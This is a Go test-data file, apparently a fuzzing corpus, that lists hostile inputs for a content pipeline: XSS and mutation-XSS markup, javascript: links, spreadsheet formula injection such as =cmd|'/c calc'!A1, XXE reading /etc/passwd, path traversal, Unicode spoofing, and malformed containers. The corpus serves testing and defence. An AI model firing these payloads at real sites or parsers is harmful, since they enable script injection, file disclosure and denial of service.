package hostile

import "strings"

// markup would run the canary if it ever stood in a page as markup.
var markup = []string{
	`<script>canary()</script>`,
	`<img src=x onerror=canary()>`,
	`<svg onload=canary()>`,
	`"><script>canary()</script>`,
	`'><img src=x onerror='canary()'>`,
	`<b onmouseover="canary()">kata</b>`,
	`<a href="javascript:canary()">kata</a>`,
	`<iframe srcdoc="&lt;script&gt;parent.canary()&lt;/script&gt;"></iframe>`,
	`<body onload=canary()>`,
	`</title><script>canary()</script>`,
	`</textarea><script>canary()</script>`,
	`</style><script>canary()</script>`,
	`<SCRIPT>canary()</SCRIPT>`,
	`<scr<script>ipt>canary()</scr</script>ipt>`,
	`<script/src="data:text/javascript,canary()"></script>`,
	`<script src=https://example.invalid/x.js></script>`,
	`<img src=https://example.invalid/pixel.png>`,
	`<img srcset="https://example.invalid/a.png 2x">`,
	`<img/src=x/onerror=canary()>`,
	"<img src=x\nonerror\n=\ncanary()>",
	"<img src=x onerror=\x00canary()>",
	`<image src=x onerror=canary()>`,
	`<input autofocus onfocus=canary()>`,
	`<select autofocus onfocus=canary()></select>`,
	`<textarea autofocus onfocus=canary()></textarea>`,
	`<button popovertarget=x onclick=canary()>kata</button>`,
	`<details open ontoggle=canary()>`,
	`<video src=x onerror=canary()></video>`,
	`<audio src=x onerror=canary()></audio>`,
	`<video><source onerror=canary()></video>`,
	`<video poster=https://example.invalid/p.png></video>`,
	`<marquee onstart=canary()>kata</marquee>`,
	`<object data="data:text/html,<script>parent.canary()</script>"></object>`,
	`<embed src="javascript:canary()">`,
	`<iframe src="javascript:parent.canary()"></iframe>`,
	`<iframe src="data:text/html,<script>parent.canary()</script>"></iframe>`,
	`<frameset onload=canary()>`,
	`<form action="javascript:canary()"><input type=submit autofocus></form>`,
	`<form><button formaction="javascript:canary()">kata</button></form>`,
	`<isindex action="javascript:canary()" type=image>`,
	`<base href="https://example.invalid/">`,
	`<meta http-equiv=refresh content="0;url=https://example.invalid/">`,
	`<meta http-equiv=Content-Security-Policy content="default-src *">`,
	`<link rel=stylesheet href="https://example.invalid/x.css">`,
	`<link rel=preload as=image href="https://example.invalid/x.png">`,
	`<style>@import "https://example.invalid/x.css";</style>`,
	`<style>*{background:url(https://example.invalid/x.png)}</style>`,
	`<p style="background:url(javascript:canary())">kata</p>`,
	`<p style="position:fixed;inset:0;z-index:99999">kata</p>`,
	`<svg><script>canary()</script></svg>`,
	`<svg><script href="data:text/javascript,canary()"/></svg>`,
	`<svg><animate onbegin=canary() attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:canary()"><text y=20>kata</text></a></svg>`,
	`<svg><set attributeName=href to="javascript:canary()"/></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id=x onload=canary()>#x"/></svg>`,
	`<svg><foreignObject><body onload=canary()></foreignObject></svg>`,
	`<svg><style><img src="</style><img src=x onerror=canary()>">`,
	`<math><mtext></mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=canary() src=1>">`,
	`<math><mi xlink:href="javascript:canary()">kata</mi></math>`,
	`<math><annotation-xml encoding="text/html"><script>canary()</script></annotation-xml></math>`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>`,
	`<noscript><p title="</noscript><img src=x onerror=canary()>">`,
	`<template><script>canary()</script></template>`,
	`<template shadowrootmode=open><script>canary()</script></template>`,
	`<xmp><p title="</xmp><img src=x onerror=canary()>">`,
	`<noembed><p title="</noembed><img src=x onerror=canary()>">`,
	`<listing>&lt;img src=x onerror=canary()&gt;</listing>`,
	`<plaintext><img src=x onerror=canary()>`,
	`<select><style></select><img src=x onerror=canary()></style>`,
	`<table><td background="javascript:canary()">kata</table>`,
	`<!--><img src=x onerror=canary()>-->`,
	`<!-- --!><img src=x onerror=canary()> -->`,
	`<![CDATA[><img src=x onerror=canary()>]]>`,
	`<?xml version="1.0"?><script>canary()</script>`,
	`<!DOCTYPE html [<!ENTITY x "<script>canary()</script>">]>&x;`,
	`&lt;script&gt;canary()&lt;/script&gt;`,
	`&amp;lt;script&amp;gt;canary()&amp;lt;/script&amp;gt;`,
	`&#60;script&#62;canary()&#60;/script&#62;`,
	`&#x3c;img src=x onerror=canary()&#x3e;`,
	`\u003cscript\u003ecanary()\u003c/script\u003e`,
	`%3Cscript%3Ecanary()%3C%2Fscript%3E`,
	`＜script＞canary()＜/script＞`,
	`{{constructor.constructor('canary()')()}}`,
	`${canary()}`,
	`<%= canary() %>`,
	`#{canary()}`,
	`[[${canary()}]]`,
	`{{csp}} {{program}} {{loader}}`,
	`<script type=text/plain id=program>AAAA</script>`,
	`<input id=files name=body><p id=app>`,
	`<a id=saksi><a id=saksi name=startWorker href="blob:canary">`,
	`<x-saksi onclick=canary()></x-saksi>`,
	`<p data-act=choose data-arg=x contenteditable>kata</p>`,
}

var addresses = []string{
	`[kata](javascript:canary())`, `[kata](JaVaScRiPt:canary())`, `[kata](java&#10;script:canary())`, `[kata](&#x6A;avascript:canary())`,
	`[kata](data:text/html,<script>canary()</script>)`, `[kata](data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==)`,
	`[kata](vbscript:canary)`, `[kata](file:///etc/passwd)`, `![kata](https://example.invalid/p.png)`, `![kata](x "onerror=canary()")`,
	`<javascript:canary()>`, `[kata]: javascript:canary()`, `[kata](<javascript:canary()>)`, `[kata](//example.invalid/)`, "[kata](\x01javascript:canary())",
}

var markdown = []string{
	"# kata", "> kata", "1. kata", "- [x] kata", "```\n<script>canary()</script>\n```", "~~~", "***", "===", "| a | b |\n|---|---|\n| <img onerror=canary()> | |",
	"**kata*_kata__", "\\<script>", "<!-- kata", "[^1]: <img src=x onerror=canary()>", "$$\\href{javascript:canary()}{x}$$", ":::note\n<script>", strings.Repeat("[", 500), strings.Repeat("![a](", 300), strings.Repeat("> ", 500), strings.Repeat("*_", 500),
}

// directions hide characters, turn the order of reading or look like others.
var directions = []string{
	"\u202Egnp.exe\u202C", "\u202Dkata\u202C", "\u2066kata\u2069", "\u2067kata\u2069", "\u2068kata", "\u202B\u202B\u202Bkata", "\u2069\u2069kata", "\u200F\u200Ekata\u061C",
	strings.Repeat("\u200B", 2000), strings.Repeat("\u202E", 300), strings.Repeat("\u2066", 200), "ka\u200Cta ka\u200Dta", "\uFEFFkata\uFEFF", "ka\u00ADta", "\u2060\u2061\u2062\u2063\u2064", "\U000E0041\U000E0042\U000E007F",
	"Раsаr Lаwаngаn", "Ρasar Lawangan", "Ｐａｓａｒ Ｌａｗａｎｇａｎ", "𝐏𝐚𝐬𝐚𝐫 𝑳𝒂𝒘𝒂𝒏𝒈𝒂𝒏", "Ⓟⓐⓢⓐⓡ", "Pasar\u3164Lawangan", "Pasar\u115F\u1160Lawangan", "Pasar\u2800Lawangan", "Pasar\u034FLawangan",
	"k" + strings.Repeat("\u0301\u0327\u0489", 400), "é e\u0301", "\uFFF9kata\uFFFAkata\uFFFB", "\uFFFC\uFFFD\uFFFE\uFFFF", "\u2028kata\u2029kata", "👩\u200D👩\u200D👧\u200D👦", "\U0010FFFF\U000F0000", "ﷺ﷽𒐫", "اﻟﺴﻮق 12 \u202E21", "ǅ ß ſ ŉ ﬁ İ ı", "١٢٣ ۴۵۶ १२३ 三百",
}

// broken is no UTF-8: lone bytes, surrogates, overlong forms, what is too large.
var broken = []string{
	"\xff", "\xfe\xff", "\x80", "\xbf\xbf", "\xc0\xaf", "\xc1\x81", "\xe0\x80\xaf", "\xf0\x80\x80\xaf", "\xf8\x88\x80\x80\x80", "\xfc\x84\x80\x80\x80\x80",
	"\xed\xa0\x80", "\xed\xbf\xbf", "\xed\xa0\xbd\xed\xb8\x80", "\xf4\x90\x80\x80", "\xe2\x82", "\xf0\x9f\x98", "\xc3<script>canary()</script>", "\xe2<img src=x onerror=canary()>", "kata\xc3", "\x1b$B$3$s\x1b(B", "+ADw-script+AD4-canary()+ADw-/script+AD4-", "\xa9\xae\x99\x93", "\x00\x00\x00", "\xff\xfe<\x00s\x00",
}

// formulas are what a spreadsheet would reckon with.
var formulas = []string{
	`=1+1`, `=HYPERLINK("https://example.invalid/?"&A1,"kata")`, `+1+1`, `-1+1`, `@SUM(1+1)`, `=cmd|'/c calc'!A1`,
	"\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", `"=1+1"`, `",=1+1,"`, `;=1+1`, "kata\n=1+1", ` =1+1`, `'=1+1`, `=IMPORTXML("https://example.invalid/","//a")`, `=WEBSERVICE("https://example.invalid/")`, `%0A=1+1`, `|=1+1`, `kata;=1+1;kata`, "kata\t=1+1",
}

var metacharacters = []string{
	`"`, `'`, `\`, `\\"`, `\u0000`, `{"a":[`, `}]`, `","version":2,"x":"`, `</script>`, `*/ alert /*`, "`", "``` ```", `$(canary)`, `%s%n%d`, `%00`, `../../../etc/passwd`, `C:\CON`, `\x1b[31m`, "\u001b]0;kata\u0007", `<<<<<<<`, `&&||;`, `~!@#$%^&*()_+`, `[a](b)`, `__proto__`, `constructor`, `hasOwnProperty`, `null`, `undefined`, `NaN`, `-0`, `1e309`, `0x7fffffff`, `#s1`, `a1.1`, `s1`, `[data-sentence="a1.1"]`,
}

var names = []string{
	`"><img src=x onerror=canary()>`, `<script>canary()</script>`, `javascript:canary()`, `data:text/html,canary`, `../../etc/passwd`, `..`, `CON`, `a;b,c"d'e`, `=1+1`, "a\nb", "a\u202Etxt.exe", "\u200B", ` `, `%2e%2e%2f`, `a?b#c`, `__proto__`, `constructor`, `{{name}}`, strings.Repeat("n", 200), `💥`,
}

// containers say that they are something and are not, or not to their end.
var containers = []struct{ ending, data string }{
	{".json", `{"version":1,"articles":[`}, {".json", `{"version":2,"articles":[]}`}, {".json", strings.Repeat("[", 20000)}, {".json", strings.Repeat(`{"a":`, 20000)},
	{".json", `{"headline":"<script>canary()</script>","body":"\ud800 <img src=x onerror=canary()> \u0000 Kebakaran melanda Pasar Lawangan."}`},
	{".json", `{"__proto__":{"text":"kata"},"text":"Kebakaran melanda Pasar Lawangan pada Senin malam."}`},
	{".html", strings.Repeat("<div>", 15000) + Innocent}, {".html", strings.Repeat("<b><i>", 5000) + Innocent}, {".html", strings.Repeat("<table><tr><td>", 2000) + Innocent}, {".html", strings.Repeat("<svg><math>", 3000) + Innocent},
	{".html", "<p " + strings.Repeat("a=1 ", 20000) + ">" + Innocent}, {".html", "<" + strings.Repeat("a", 90000)}, {".html", strings.Repeat("<!--", 20000)}, {".html", "<script type=\"application/ld+json\">{\"@type\":\"NewsArticle\",\"articleBody\":\"<img src=x onerror=canary()>\"</script>" + Innocent},
	{".xml", `<!DOCTYPE x [<!ENTITY a "kata"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><nitf><body>&c;</body></nitf>`}, {".xml", `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><nitf><body>&f;</body></nitf>`}, {".xml", strings.Repeat("<a>", 20000)},
	{".rss", `<rss><channel><item><title>&lt;script&gt;canary()&lt;/script&gt;</title><link>javascript:canary()</link><description><![CDATA[<img src=x onerror=canary()>` + Innocent + `]]></description></item></channel></rss>`},
	{".eml", "Subject: =?utf-8?q?=3Cscript=3Ecanary()=3C/script=3E?=\r\nFrom: \"><img src=x onerror=canary()>\" <a@b>\r\nContent-Type: text/html\r\n\r\n<script>canary()</script><p>" + Innocent}, {".eml", "Content-Type: multipart/mixed; boundary=x\r\n\r\n" + strings.Repeat("--x\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n", 500)},
	{".rtf", `{\rtf1 ` + strings.Repeat("{", 20000)}, {".rtf", `{\rtf1\ansi {\field{\*\fldinst HYPERLINK "javascript:canary()"}{\fldrslt kata}} \bin99999999 kata}`}, {".pdf", "%PDF-1.7\n1 0 obj\n<</Type/Catalog/OpenAction<</S/JavaScript/JS(canary())>>>>\nendobj\ntrailer<</Root 1 0 R/Prev 0>>"}, {".pdf", "%PDF-1.7\n" + strings.Repeat("1 0 obj<</Kids[1 0 R]>>", 2000)},
	{".docx", "PK\x03\x04" + strings.Repeat("\x00", 200)}, {".zip", "PK\x05\x06" + strings.Repeat("\xff", 18)}, {".gz", "\x1f\x8b\x08\x00"}, {".svg", `<svg xmlns="http://www.w3.org/2000/svg" onload="canary()"><text>` + Innocent + `</text></svg>`}, {".url", "[InternetShortcut]\nURL=javascript:canary()"}, {".txt", ""}, {".txt", "\x00"}, {".txt", "\xff\xfe\x00\xd8\x00\xd8"}, {".txt", "\xef\xbb\xbf"},
}
